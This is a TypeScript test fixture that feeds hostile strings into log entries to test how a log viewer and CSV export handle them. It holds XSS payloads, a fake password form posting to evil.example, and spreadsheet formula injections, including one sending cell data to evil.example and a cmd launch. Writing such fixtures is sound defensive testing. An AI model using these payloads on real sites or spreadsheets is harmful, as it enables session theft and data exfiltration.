import { LOG_TYPE, logRow, type LogRow } from './log-row'

/** Hostile texts for log entries by id: plain text, HTML and CSV formulas. */
export const hostileLogTexts: Readonly<Record<string, string>> = {
  PT01: '<img src=x onerror=window.__xss=1>',
  PT03: 'javascript:window.__xss=1',
  PT05: 'admin\u202Enimda',
  PT07: '\u0430dmin',
  PT09: '👩‍👩‍👧‍👦 family',
  PT11: 'a\u0000b\tc\r\nd',
  PT13: '__proto__',
  PT15: 'toString',
  PT17: 'gpt-4,gpt-4o',
  PT19: '100%&a=1#x?y+z/..;=\\',
  PT21: '../../user/logout',
  PT23: '<b>bold</b> &amp; &lt;i&gt;',
  PT25: '[click](javascript:window.__xss=1) ![x](/api/user/logout)',
  PH03: '<script>window.__xss=1</script>',
  PH05: '<a href="java&#x09;script:window.__xss=1">x</a>',
  PH07: '<iframe src="javascript:parent.__xss=1"></iframe>',
  PH09: '<form action="https://evil.example/steal"><input name=password type=password><button>Log in again</button></form>',
  PH13: '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>',
  PH15: '<details open ontoggle=window.__xss=1>x</details>',
  PH27: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__xss=1'/>">`,
  PH31: '<img src="/api/user/logout">',
  PH39: '<div onpointerenter=window.__xss=1 tabindex=1 autofocus contenteditable onfocus=window.__xss=1>z</div>',
  PC01: '=HYPERLINK("https://evil.example/?"&A1,"x")',
  PC03: '-2+3',
  PC05: '@SUM(1)',
  PC07: '\r=1',
  PC09: "=cmd|' /C calc'!A0",
  PC11: 'a,b',
  PC13: 'a\nb',
  PC15: '中文',
  long: 'a word that has no end'.repeat(500),
  unbroken: 'm'.repeat(300),
}

const texts = Object.values(hostileLogTexts)
const MOST_EXACT = Number.MAX_SAFE_INTEGER
const TYPES = [LOG_TYPE.consume, LOG_TYPE.topUp, LOG_TYPE.manage, LOG_TYPE.system, LOG_TYPE.test, 77, -1]

/** Boundary values of number columns and dates. */
const edges: readonly Partial<LogRow>[] = [
  { content: 'as much as JavaScript can count', quota: MOST_EXACT, prompt_tokens: MOST_EXACT },
  { content: 'less than nothing', quota: -1, prompt_tokens: -1, completion_tokens: -1, elapsed_time: -1 },
  { content: 'no time at all', created_at: 0 },
  { content: 'milliseconds by mistake', created_at: 1_700_000_000_000 },
  { content: 'before time began', created_at: -62_135_596_801 },
  { content: 'an endless call', elapsed_time: MOST_EXACT, is_stream: true },
  { content: 'a channel that never was', channel: 2_147_483_647 },
  { content: '' },
]

/** Entries of root, admin and alice in turn with each hostile text in every text field, then the boundary values. */
export function hostileLogs(start: number): LogRow[] {
  const textAt = (place: number) => texts[place % texts.length] ?? ''
  const spoilt = texts.map((content, place): Partial<LogRow> => ({
    user_id: 1 + (place % 3),
    type: TYPES[place % TYPES.length],
    content,
    username: textAt(place + 1),
    token_name: textAt(place + 2),
    model_name: textAt(place + 3),
    request_id: textAt(place + 4),
    quota: 100 + place,
    channel: place % 5,
  }))
  const all = [
    ...spoilt,
    ...edges.map((edge) => Object.assign({ user_id: 1, username: 'root', type: 2 }, edge)),
  ]
  return all.map((entry, place) =>
    logRow({ created_at: start - (all.length - place) * 60, ...entry, id: place + 1 }),
  )
}
